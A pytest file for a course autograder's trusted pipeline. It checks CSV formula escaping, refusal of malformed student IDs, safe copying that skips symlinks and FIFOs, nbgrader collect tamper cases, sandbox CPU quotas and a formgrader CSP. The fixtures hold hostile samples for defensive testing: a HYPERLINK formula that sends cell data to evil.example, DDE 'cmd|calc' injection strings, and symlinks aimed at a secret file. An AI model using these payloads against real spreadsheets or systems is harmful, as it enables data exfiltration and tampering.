"""What the trusted side does with a student's files and names, before any kernel runs:

- every CSV the course writes escapes a cell that a spreadsheet would run as a formula
  (cnngrader/pipeline/csvsafe.py), and a student id outside [A-Za-z0-9._-] is refused;
- copies and digests of a submission never follow a link, never block on a FIFO, and check sizes
  before reading (cnngrader/pipeline/safefiles.py): used by the sandbox's inbox, by `make grade`'s
  preparation of submitted/, and by collect;
- `nbgrader collect` on a shared exchange (cnngrader/pipeline/collect.py): owners, file-system
  timestamps, a symlink to the solutions, a FIFO entry.

The whole pipeline with these attacks is in test_tamper.py (fixtures with their fair scores)."""
from __future__ import annotations

import csv
import io
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest
from conftest import REPO
from fairtable import record

from cnngrader.pipeline import csvsafe, safefiles
from cnngrader.pipeline.grade import GRADES_FIELDS, course_config, find_submissions, prepare_submission, write_grades

AID = "02_cross_correlation"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# -- CSV exports ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (ATTACK, "'" + ATTACK),
    ("-1.5", "-1.5"), ("+2", "+2"), ("1e-05", "1e-05"), ("-.5E3", "-.5E3"), ("alice", "alice"),
    ("Lovelace, Ada", "Lovelace, Ada"), ("", ""), (None, ""), (3.0, "3.0"), (-1.5, "-1.5"),
])
def test_a_cell_that_starts_a_formula_is_escaped(value, written):
    assert csvsafe.cell(value) == written


def test_grades_csv_carries_no_formula(tmp_path):
    row = dict.fromkeys(GRADES_FIELDS, "")
    row.update(student_id=ATTACK, last_name="@cmd", first_name="-2+3", score="15.0", status="submitted")
    write_grades([row], tmp_path / "grades.csv")
    (got,) = csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text()))
    assert got["student_id"] == "'" + ATTACK and got["last_name"] == "'@cmd" and got["first_name"] == "'-2+3"
    assert got["score"] == "15.0"


def test_report_csvs_carry_no_formula(tmp_path):
    from cnngrader.pipeline.report import _write_csv, write_canvas

    _write_csv(tmp_path / "students.csv", [{"student": ATTACK, "total": "-1.5"}], ["student", "total"])
    rows = list(csv.reader(io.StringIO((tmp_path / "students.csv").read_text())))
    assert rows == [["student", "total"], ["'" + ATTACK, "-1.5"]]
    cfg = course_config(tmp_path)
    overview = {"assignments": [{"name": AID, "max_score": 15.0}],
                "students": [{"id": "=cmd", "first_name": "", "last_name": "", "lms_user_id": "+1"}],
                "submissions": {("=cmd", AID): {"final": 15.0}}}
    write_canvas(cfg, overview, tmp_path / "canvas.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "canvas.csv").read_text())))
    assert rows[2][:2] == ["'=cmd", "+1"] and rows[2][-1] == "15"


@pytest.mark.parametrize("sid", ["alice", "s.mith-2_b", "A1"])
def test_good_student_ids(sid):
    assert csvsafe.student_id_problem(sid) == ""


@pytest.mark.parametrize("sid", [ATTACK, "a b", "ali+ce", "..", ".", "ali/ce", "é", "a\nb"])
def test_bad_student_ids(sid):
    assert csvsafe.student_id_problem(sid)


# -- safe copies -------------------------------------------------------------------------------------
@pytest.fixture
def hostile(tmp_path):
    """A submission folder with one good notebook and every kind of odd entry."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "shadow").write_text("root:SECRET")
    (outside / "shadow").chmod(0o600)
    sub = tmp_path / "sub"
    (sub / "data").mkdir(parents=True)
    (sub / f"{AID}.ipynb").write_text("{}")
    (sub / "data" / "x.csv").write_text("1,2\n")
    (sub / "shadow_link").symlink_to(outside / "shadow")
    (sub / "zero").symlink_to("/dev/zero")
    (sub / "dirlink").symlink_to(outside)
    os.link(outside / "shadow", sub / "hard")
    os.mkfifo(sub / "fifo")
    os.mkfifo(sub / "timestamp.txt")  # nbgrader would block reading it
    s = socket.socket(socket.AF_UNIX)
    s.bind(str(sub / "sock"))
    s.close()
    (sub / "data" / "inner").write_text("kept")
    os.link(sub / "data" / "inner", sub / "data" / "inner2")  # both names inside: an ordinary file
    return sub


def test_copy_tree_copies_only_regular_files(hostile, tmp_path):
    lines = safefiles.copy_tree(hostile, tmp_path / "dest", label="alice/A")
    got = sorted(str(p.relative_to(tmp_path / "dest")) for p in (tmp_path / "dest").rglob("*"))
    assert got == [f"{AID}.ipynb", "data", "data/inner", "data/inner2", "data/x.csv"]
    assert not any(p.is_symlink() for p in (tmp_path / "dest").rglob("*"))
    assert sorted(line.split(": ")[1] for line in lines) == [
        "dirlink is a symbolic link", "fifo is a FIFO", "hard is a hard link to a file outside the submission",
        "shadow_link is a symbolic link", "sock is a socket", "timestamp.txt is a FIFO", "zero is a symbolic link"]
    assert all(line.startswith("alice/A: ") and line.endswith(": not copied") for line in lines)


def test_clean_removes_names_only(hostile, tmp_path):
    lines = safefiles.clean(hostile)
    assert len(lines) == 7
    assert sorted(p.name for p in hostile.iterdir()) == [f"{AID}.ipynb", "data"]
    assert (tmp_path / "outside" / "shadow").read_text() == "root:SECRET"  # the link's target is untouched


def test_sizes_are_checked_before_reading(tmp_path):
    sparse = tmp_path / "sparse"
    sparse.mkdir()
    with open(sparse / "big.bin", "wb") as fh:
        fh.truncate(1200 * 2**20)  # 1.2 GiB, no blocks
    with pytest.raises(safefiles.TooBig, match="more than 128 MiB"):
        safefiles.copy_tree(sparse, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()
    many = tmp_path / "many"
    many.mkdir()
    for i in range(30):
        (many / f"f{i}").write_text("x")
    with pytest.raises(safefiles.TooBig, match="more than 20 files"):
        safefiles.scan(many, safefiles.FileLimits(max_files=20))


def test_a_root_that_is_a_link_is_refused(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    with pytest.raises(FileNotFoundError):
        safefiles.scan(tmp_path / "link")


def test_file_digest_streams(tmp_path):
    import hashlib

    data = os.urandom(3 * safefiles.CHUNK + 17)
    (tmp_path / "f").write_bytes(data)
    assert safefiles.file_digest(tmp_path / "f").hexdigest() == hashlib.sha256(data).hexdigest()
    (tmp_path / "l").symlink_to("/dev/zero")
    with pytest.raises(OSError):
        safefiles.file_digest(tmp_path / "l")


def test_sandbox_inbox_gets_regular_files_only(hostile, tmp_path):
    from cnngrader.pipeline.sandbox import Limits, Sandbox

    box = Sandbox(Limits(disk_bytes=2**20), sources=[])
    box.inbox = tmp_path / "inbox"
    box.inbox.mkdir()
    lines = box.copy_in(hostile)
    assert len(lines) == 7
    assert sorted(p.name for p in box.inbox.iterdir()) == [f"{AID}.ipynb", "data"]
    big = tmp_path / "big"
    big.mkdir()
    (big / "b").write_bytes(b"x" * (2**20 + 1))
    with pytest.raises(safefiles.TooBig):  # over the sandbox's own tmpfs
        box.copy_in(big)


def test_make_grade_prepares_hostile_and_oversized_submissions(hostile, tmp_path):
    root = tmp_path / "course"
    cfg = course_config(root)
    folder = root / "submitted" / "alice" / AID
    folder.parent.mkdir(parents=True)
    shutil.move(hostile, folder)
    nbformat.write(nbformat.v4.new_notebook(), folder / f"{AID}.ipynb")
    assert prepare_submission(cfg, "alice", AID) is None
    assert sorted(p.name for p in folder.iterdir()) == [f"{AID}.ipynb", "data"]
    for sid in (ATTACK, "bob"):
        (root / "submitted" / sid / AID).mkdir(parents=True)
        nbformat.write(nbformat.v4.new_notebook(), root / "submitted" / sid / AID / f"{AID}.ipynb")
    with open(root / "submitted" / "bob" / AID / "big.bin", "wb") as fh:
        fh.truncate(2**31)
    assert "outside A-Z" in prepare_submission(cfg, ATTACK, AID)
    assert "too big" in prepare_submission(cfg, "bob", AID) and "not graded" in prepare_submission(cfg, "bob", AID)
    (root / "submitted" / "carol").symlink_to(root / "submitted" / "alice")  # a linked student folder
    assert ("carol", AID) not in find_submissions(cfg)


# -- collect on a shared exchange -----------------------------------------------------------------
NBGRADER = str(Path(sys.executable).parent / "nbgrader")
STAMP = "2026-01-01 10:00:00.000000 UTC"


@pytest.fixture
def exchange(tmp_path):
    """A course with an exchange whose inbound folder students have written to."""
    course = tmp_path / "course"
    course.mkdir()
    for name in ("course.toml", "nbgrader_config.py"):
        shutil.copy(REPO / name, course / name)
    inbound = tmp_path / "exchange" / "cnn" / "inbound"
    inbound.mkdir(parents=True)
    return course, inbound


def entry(inbound: Path, student: str, stamp: str = STAMP, text: str = "{}") -> Path:
    path = inbound / f"{student}+{AID}+{stamp}+abc"
    path.mkdir()
    (path / f"{AID}.ipynb").write_text(text)
    (path / "timestamp.txt").write_text(stamp)
    return path


def collect(course: Path, *extra: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("JUPYTER", "NBGRADER", "CNNGRADER"))}
    env["NBGRADER_EXCHANGE"] = str(course.parent / "exchange")
    proc = subprocess.run([NBGRADER, "collect", AID, *extra], cwd=course, env=env, capture_output=True,
                          text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout + proc.stderr


def test_collect_skips_links_fifos_and_bad_ids_and_goes_on(exchange):
    course, inbound = exchange
    (course / "solutions" / AID).mkdir(parents=True)
    (course / "solutions" / AID / f"{AID}.ipynb").write_text("SOLUTION")
    (inbound / f"mallory+{AID}+{STAMP}+x").symlink_to(course / "solutions" / AID)
    os.mkfifo(inbound / f"aaron+{AID}+{STAMP}+x")  # sorts before the others
    entry(inbound, "=cmd|calc")
    alice = entry(inbound, "alice", text="ALICE")
    os.mkfifo(alice / "pipe")
    (alice / "secret").symlink_to(course / "solutions" / AID / f"{AID}.ipynb")
    out = collect(course, "--ExchangeCollect.check_owner=False")
    collected = sorted(p.name for p in (course / "submitted").iterdir())
    for who, what, item in (("mallory", "a symlink to the solutions folder in inbound", "7"),
                            ("aaron", "a FIFO in inbound, sorted before the others", "7"),
                            ("=cmd|calc", "an entry whose student id is a formula", "8")):
        said = f"skipped '{who}+{AID}" in out or (item == "8" and "outside A-Z" in out)
        record(item, f"{what} (nbgrader collect)", "skipped", "skipped" if said and who not in collected
               else "collected", "test_trusted_side.py")
    record("7", "alice's entry, after those (nbgrader collect)", "collected", "collected" if "alice" in collected
           else "not collected", "test_trusted_side.py")
    assert "owners are not checked" in out
    assert f"skipped 'mallory+{AID}" in out and "symbolic link, not a folder" in out
    assert f"skipped 'aaron+{AID}" in out and "FIFO, not a folder" in out
    assert "outside A-Z" in out
    got = course / "submitted" / "alice" / AID
    assert sorted(p.name for p in got.iterdir()) == [f"{AID}.ipynb", "timestamp.txt"]
    assert (got / f"{AID}.ipynb").read_text() == "ALICE"
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["alice"]


def test_collect_takes_the_time_from_the_file_system(exchange):
    course, inbound = exchange
    entry(inbound, "alice", stamp="2000-01-01 00:00:00.000000 UTC")  # backdated name and timestamp.txt
    collect(course, "--ExchangeCollect.check_owner=False")
    stamp = (course / "submitted" / "alice" / AID / "timestamp.txt").read_text()
    record("7", "a backdated timestamp.txt (nbgrader collect)", "the file system's time",
           "the student's time" if stamp.startswith("2000") else "the file system's time", "test_trusted_side.py")
    assert not stamp.startswith("2000") and stamp.endswith("UTC")


@pytest.mark.skipif(os.geteuid() != 0, reason="giving files to another user needs root")
def test_collect_counts_an_entry_only_for_its_owner(exchange):
    import pwd

    course, inbound = exchange
    nobody = pwd.getpwnam("nobody")
    for student in ("alice", "nobody"):
        path = entry(inbound, student, text=student)
        for p in (path, *path.iterdir()):
            os.chown(p, nobody.pw_uid, nobody.pw_gid)
    out = collect(course)
    took = (course / "submitted" / "alice").exists()
    record("7", "an entry named for alice, owned by another user (nbgrader collect)", "skipped",
           "collected as alice" if took else "skipped", "test_trusted_side.py")
    assert f"skipped 'alice+{AID}" in out and "owned by nobody, not by alice" in out
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["nobody"]


# -- one sandbox cannot starve the others ------------------------------------------------------------
FORK_AND_SPIN = """
import os, time
for _ in range(7):  # 8 busy processes, 2 s of wall time each
    if os.fork() == 0:
        break
end = time.monotonic() + 2
while time.monotonic() < end:
    pass
"""


def test_each_sandbox_gets_a_cpu_quota_that_holds_its_whole_tree():
    from cnngrader.pipeline.sandbox import Limits, Sandbox, SandboxUnavailable, check_available

    try:
        check_available()
    except SandboxUnavailable as e:
        pytest.skip(f"no sandbox on this machine: {e.why}")
    with Sandbox(Limits(memory_bytes=512 * 2**20, address_space=False, cpus=0.05)) as box:
        cgroup = box._cgroup
        if cgroup.cpu_quota() == 0.0 and not cgroup.v2:
            pytest.skip("the cgroup v1 cpu controller is not mounted here")
        assert cgroup.cpu_quota() == 0.05
        done = box.run([sys.executable, "-S", "-c", FORK_AND_SPIN], timeout=60)
        assert done.returncode == 0, done.stderr
        record("9", "8 busy forked processes in a sandbox with a 0.05-core quota", "throttled",
               "throttled" if cgroup.cpu_throttled() > 0 else "not throttled", "test_trusted_side.py")
        assert cgroup.cpu_throttled() > 0  # the quota was applied to the forked processes too
    with Sandbox(Limits(memory_bytes=512 * 2**20, address_space=False)) as box:
        assert box._cgroup.cpu_quota() == 0.0  # Limits.cpus = 0: no quota


def test_grading_kernels_get_their_share_of_the_cores():
    from cnngrader.pipeline.kernel_start import SandboxedKernelManager

    km = SandboxedKernelManager()
    km.threads = max(1, (os.cpu_count() or 1) // 2)
    assert km.limits().cpus == km.threads
    km.max_cpus = 0.5
    assert km.limits().cpus == 0.5
    km.max_cpus = -1.0  # no quota (the benchmark's comparison)
    assert km.limits().cpus == 0.0


def test_the_formgrader_transform_sets_the_policy_on_submission_pages_only():
    from types import SimpleNamespace

    from tornado.httputil import HTTPHeaders

    from cnngrader.pipeline.formgrader_csp import FormgradeCSP

    page = (b'<html><head><script>var submission_id = "1";</script></head><body><div id="notebook-container">'
            b"<script>window.__pwned = 1</script></div></body></html>")
    for path, expected in (("/user/ta/formgrader/submissions/1/", True), ("/user/ta/lab", False)):
        headers = HTTPHeaders({"Content-Type": "text/html; charset=UTF-8"})
        FormgradeCSP(SimpleNamespace(path=path)).transform_first_chunk(200, headers, page, True)
        csp = headers.get("Content-Security-Policy", "")
        assert bool(csp) == expected
        if expected:  # nbgrader's script before the notebook is allowed by its hash, the notebook's is not
            assert csp.count("'sha256-") == 1 and "unsafe-inline" not in csp.split("style-src")[0]
